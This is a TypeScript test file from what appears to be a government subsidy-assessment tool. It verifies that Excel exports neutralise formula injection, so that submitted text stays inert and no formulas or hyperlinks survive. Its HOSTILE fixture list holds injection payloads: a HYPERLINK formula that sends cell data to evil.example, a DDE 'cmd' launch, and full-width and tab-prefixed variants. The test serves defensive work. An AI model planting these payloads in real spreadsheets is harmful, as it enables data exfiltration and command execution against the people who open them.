/**
 * Formula injection: text a unit typed that starts with = + - @ (or ＝ ＋ － ＠), a tab or a CR is written into
 * every export so that no spreadsheet runs it, and no export ever holds a formula or a hyperlink. The files are
 * opened the way a clerk's Excel would (exceljs, and the raw XML), every cell of every sheet checked.
 *
 * Formula cells gongshu itself intends in its exports: none. Totals (subsidy 合计, result statistics) are
 * numbers computed when writing, so the list below is empty on purpose; a writer that adds one must list it.
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { buildAssessmentTemplate } from '../../src/documents/workbooks/assessment-template.js';
import { buildReviewTemplate } from '../../src/documents/workbooks/review-template.js';
import { buildShortlistWorkbook } from '../../src/documents/workbooks/shortlist.js';
import { buildSubsidyWorkbook } from '../../src/documents/workbooks/subsidy.js';
import { HOSTILE_DIR, person } from '../fixtures/hostile/make-hostile.js';
import { writeApplicationWorkbook } from '../helpers/workbooks.js';
import { readZip } from '../fixtures/hostile/zip.js';
import { runCli } from '../helpers/run-cli.js';
import { tempDir } from '../helpers/tmp.js';

/** `Sheet!A1` of every formula cell an export is meant to have. */
const INTENDED_FORMULAS: Record<string, string[]> = {};

/** What a spreadsheet would take as the start of a formula (or a DDE command) when the text is typed or pasted. */
const FORMULA_START = /^[=+\-@＝＋－＠\t\r]/u;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠HYPERLINK("http://evil.example")',
  '\t=1+2',
  '\r=1+1',
];

interface CellCheck {
  where: string;
  problem: string;
}

/** Every cell of every sheet: no unintended formula, no hyperlink, no text a spreadsheet would run. */
async function inspect(file: string, intended: string[] = []): Promise<{ problems: CellCheck[]; texts: string[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const problems: CellCheck[] = [];
  const texts: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${ws.name}!${cell.address}`;
        if ((cell.type === ExcelJS.ValueType.Formula || cell.formula) && !intended.includes(where)) problems.push({ where, problem: `formula ${cell.formula}` });
        if (cell.type === ExcelJS.ValueType.Hyperlink || cell.hyperlink) problems.push({ where, problem: 'hyperlink' });
        if (typeof cell.value === 'string') {
          texts.push(cell.value);
          if (FORMULA_START.test(cell.value)) problems.push({ where, problem: `starts like a formula: ${JSON.stringify(cell.value)}` });
        }
        if (typeof cell.value === 'object' && cell.value !== null && !(cell.value instanceof Date) && !('richText' in cell.value)) {
          problems.push({ where, problem: `value object ${JSON.stringify(cell.value)}` });
        }
      }),
    );
  }
  // The raw parts, as Excel reads them: no <f> element, no hyperlink, no external link or relationship.
  for (const part of readZip(fs.readFileSync(file))) {
    const xml = part.data.toString('utf8');
    if (/^xl\/worksheets\/.*\.xml$/u.test(part.name)) {
      if (/<f[\s>]/u.test(xml)) problems.push({ where: part.name, problem: '<f> element' });
      if (/<hyperlinks?[\s>]/u.test(xml)) problems.push({ where: part.name, problem: '<hyperlink> element' });
    }
    if (part.name.startsWith('xl/externalLinks/')) problems.push({ where: part.name, problem: 'external link part' });
    if (/TargetMode="External"/u.test(xml)) problems.push({ where: part.name, problem: 'external relationship' });
  }
  return { problems, texts };
}

async function hostileAssessment(dir: string): Promise<string> {
  const wb = buildAssessmentTemplate(ExcelJS, { year: 2026 });
  const ws = wb.getWorksheet('考核表')!;
  // Written straight into the cells: fillAssessmentTemplate would already guard them.
  ws.getCell('C4').value = HOSTILE[0]!;
  ws.getCell('C5').value = HOSTILE[3]!;
  ws.getCell('I4').value = 2023;
  ws.getCell('G11').value = '=8'; // a score typed as a formula-looking text: reported, never computed
  ws.getCell('G12').value = 5;
  const file = path.join(dir, '考核表-注入.xlsx');
  await wb.xlsx.writeFile(file);
  return file;
}

describe('formula injection', () => {
  it('export review (with and without --full) and export results write submitted text so that nothing runs', async () => {
    const dir = tempDir();
    const db = path.join(dir, 'g.db');
    const g = ['--db', db, '--round', '2026'];
    const injected = path.join(HOSTILE_DIR, 'apply', '36-公式注入.xlsx');
    expect((await runCli([...g, 'apply', 'import', injected, '--received', '2026-05-20'])).code).toBe(0);
    // The ID column too: masked, '=1+1+1+1+1+1' would still start with '='.
    const idInjected = await writeApplicationWorkbook(dir, '身份证注入.xlsx', person(64, { lead: { idNumber: '=1+1+1+1+1+1', name: '－王五' } }));
    expect((await runCli([...g, 'apply', 'import', idInjected, '--received', '2026-05-20'])).code).toBe(0);
    expect((await runCli([...g, 'assess', 'import', await hostileAssessment(dir), '--new-studios'])).code).toBe(0);

    const exports = {
      review: path.join(dir, 'review.xlsx'),
      reviewFull: path.join(dir, 'review-full.xlsx'),
      results: path.join(dir, 'results.xlsx'),
    };
    expect((await runCli([...g, 'export', 'review', '-o', exports.review])).code).toBe(0);
    expect((await runCli([...g, 'export', 'review', '--full', '-o', exports.reviewFull])).code).toBe(0);
    expect((await runCli([...g, 'export', 'results', '-o', exports.results])).code).toBe(0);

    for (const [name, file] of Object.entries(exports)) {
      const { problems, texts } = await inspect(file, INTENDED_FORMULAS[name]);
      expect(problems, name).toEqual([]);
      // The hostile text is there, as text a clerk can read, behind the apostrophe guard.
      const all = texts.join('\n');
      if (name.startsWith('review')) {
        expect(all, name).toContain(`'=HYPERLINK("http://evil.example/?d="&B8,"点此查看")`);
        expect(all, name).toContain("'+cmd|' /C calc'!A0");
        expect(all, name).toContain("'@陈国栋");
        expect(all, name).toContain("'－王五");
        expect(all, name).toContain(name === 'reviewFull' ? "'=1+1+1+1+1+1" : "'=1+1+1**+1+1");
      } else {
        expect(all, name).toContain(`'${HOSTILE[0]}`);
        expect(all, name).toContain(`'${HOSTILE[3]}`);
      }
    }
  });

  it('the official lists (shortlist, subsidy, expert review form) guard every submitted text', async () => {
    const dir = tempDir();
    const rows = HOSTILE.map((h, i) => ({
      studioName: h, leadName: h, occupation: h, unitName: h, score: 80 + i, plaque: h,
      findings: [{ code: 'x', severity: 'warning' as const, message: h }, { code: 'y', severity: 'warning' as const, message: '正常说明' }],
      waivers: {}, addedBy: h, amount: 100000, paidOn: null, id: i + 1,
    }));
    const signOff = { bureau: '杭州市拱墅区人力资源和社会保障局', date: '2026-06-01' };
    const books: Record<string, ExcelJS.Workbook> = {
      shortlist: buildShortlistWorkbook(ExcelJS, { year: 2026, rows, signOff }),
      shortlistInternal: buildShortlistWorkbook(ExcelJS, { year: 2026, rows, internal: true, signOff }),
      subsidy: buildSubsidyWorkbook(ExcelJS, { year: 2026, rows, signOff }),
      reviewForm: buildReviewTemplate(ExcelJS, { year: 2026, rows, expertNames: [HOSTILE[1]!, HOSTILE[4]!] }),
    };
    for (const [name, wb] of Object.entries(books)) {
      const file = path.join(dir, `${name}.xlsx`);
      await wb.xlsx.writeFile(file);
      const { problems, texts } = await inspect(file, INTENDED_FORMULAS[name]);
      expect(problems, name).toEqual([]);
      expect(texts.join('\n'), name).toContain(`'${HOSTILE[0]}`);
    }
  });

  it('the check itself catches a formula, a hyperlink and an unguarded text', async () => {
    const dir = tempDir();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('S');
    ws.getCell('A1').value = { formula: 'SUM(1,1)', result: 2 };
    ws.getCell('A2').value = { text: 'x', hyperlink: 'http://evil.example' };
    ws.getCell('A3').value = '=1+1';
    ws.getCell('A4').value = '＠SUM(1)';
    const file = path.join(dir, 'bad.xlsx');
    await wb.xlsx.writeFile(file);
    const { problems } = await inspect(file);
    expect(problems.map((p) => p.where)).toEqual(expect.arrayContaining(['S!A1', 'S!A2', 'S!A3', 'S!A4', 'xl/worksheets/sheet1.xml']));
  });
});
